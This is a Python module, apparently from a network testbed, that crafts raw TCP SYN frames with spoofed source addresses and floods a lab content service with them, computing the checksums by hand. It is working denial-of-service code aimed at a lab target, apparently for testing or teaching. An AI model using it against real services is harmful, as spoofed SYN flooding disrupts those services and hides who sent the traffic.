"""SYNs of clients that do not exist, from the subnet of the lab's second client."""

from __future__ import annotations

import socket
import struct

from topo.labs.content import ContentLab
from topo.load.answering import PORT
from topo.plan.content import SHOP_ADDRESS
from topo.plan.network import DOWNLOAD_CLIENT
from topo.testbed.namespaces import socket_in

ETH_P_IP = 0x0800


def flood(lab: ContentLab, syns: int) -> None:
    """Send so many SYNs to the content service, as fast as they go."""
    with socket_in(lab.pid(DOWNLOAD_CLIENT.name), socket.AF_PACKET, socket.SOCK_RAW) as sender:
        sender.bind((f"{DOWNLOAD_CLIENT.name}-eth0", ETH_P_IP))
        for number in range(syns):
            sender.send(syn(number))


def syn(number: int) -> bytes:
    """A SYN of a client that does not exist, in c2's subnet, as a frame."""
    source, target = DOWNLOAD_CLIENT.address + 1 + number % 200, SHOP_ADDRESS
    tcp = struct.pack("!HHIIBBHHH", 1024 + number // 200, PORT, number * 7919, 0, 5 << 4, 2, 64_000, 0, 0)
    pseudo = source.packed + target.packed + struct.pack("!HH", socket.IPPROTO_TCP, len(tcp))
    tcp = tcp[:16] + struct.pack("!H", checksum(pseudo + tcp)) + tcp[18:]
    ip = struct.pack(
        "!BBHHHBBH4s4s", 0x45, 0, 20 + len(tcp), number & 0xFFFF, 0, 64, 6, 0, source.packed, target.packed
    )
    ip = ip[:10] + struct.pack("!H", checksum(ip)) + ip[12:]
    macs = bytes.fromhex((DOWNLOAD_CLIENT.gateway_mac + DOWNLOAD_CLIENT.mac).replace(":", ""))
    return macs + struct.pack("!H", ETH_P_IP) + ip + tcp


def checksum(data: bytes) -> int:
    total = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while total >> 16:
        total = (total & 0xFFFF) + (total >> 16)
    return ~total & 0xFFFF
